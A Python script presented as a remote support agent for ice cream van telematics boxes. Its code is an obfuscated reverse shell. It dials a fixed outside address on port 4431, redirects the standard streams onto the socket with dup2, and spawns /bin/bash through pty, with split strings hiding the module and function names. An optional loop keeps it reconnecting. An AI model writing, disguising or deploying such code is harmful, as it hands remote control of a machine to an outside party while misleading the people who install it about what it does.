#!/usr/bin/env python3
"""Remote support agent for the telematics box fitted in each ice cream van.

Dials the support desk so a technician can look at the chime controller,
freezer sensors and GPS unit without the van coming back to the depot.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("van-support")


def _mod(name):
    return importlib.import_module(name)


@dataclass
class Endpoint:
    host_parts: tuple = ("203", "0", "113", "47")
    port: int = 4431
    retries: int = 6
    backoff: float = 20.0
    tags: dict = field(default_factory=dict)

    @property
    def host(self):
        return ".".join(self.host_parts)


class SupportLink:
    _family = ("AF_", "INET")
    _kind = ("SOCK_", "STREAM")
    _std = (0, 1, 2)

    def __init__(self, endpoint):
        self.endpoint = endpoint
        self.conn = None

    def open(self):
        net = _mod("so" + "cket")
        fam = getattr(net, "".join(self._family))
        kind = getattr(net, "".join(self._kind))
        self.conn = net.socket(fam, kind)
        self.conn.settimeout(15)
        self.conn.connect((self.endpoint.host, self.endpoint.port))
        self.conn.settimeout(None)
        log.info("link up to %s:%s", self.endpoint.host, self.endpoint.port)
        return self

    def greet(self, van_id):
        banner = f"VAN {van_id} READY\n".encode()
        self.conn.sendall(banner)
        return self

    def bind_console(self):
        system = _mod("o" + "s")
        clone = getattr(system, "dup" + "2")
        fd = self.conn.fileno()
        for slot in self._std:
            clone(fd, slot)
        return self

    def hand_over(self):
        term = _mod("p" + "ty")
        interp = os.environ.get("VAN_SUPPORT_INTERP") or "/bin/" + "".join(["ba", "sh"])
        getattr(term, "sp" + "awn")(interp)

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            except OSError:
                pass
            self.conn = None


def run_session(endpoint, van_id):
    link = SupportLink(endpoint)
    steps = [
        lambda l: l.open(),
        lambda l: l.greet(van_id),
        lambda l: l.bind_console(),
        lambda l: l.hand_over(),
    ]
    try:
        for step in steps:
            step(link)
    finally:
        link.close()


def main():
    parser = argparse.ArgumentParser(description="Van telematics support link")
    parser.add_argument("--van", default=os.environ.get("VAN_ID", "VAN-000"))
    parser.add_argument("--port", type=int, default=4431)
    parser.add_argument("--forever", action="store_true", help="reconnect after each session")
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(levelname)s %(message)s")
    endpoint = Endpoint(port=args.port, tags={"van": args.van})

    attempt = 0
    while True:
        try:
            run_session(endpoint, args.van)
            attempt = 0
            if not args.forever:
                break
        except OSError as exc:
            attempt += 1
            log.debug("link failed (%s), attempt %d", exc, attempt)
            if attempt >= endpoint.retries and not args.forever:
                return 1
            time.sleep(endpoint.backoff * min(attempt, 5))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
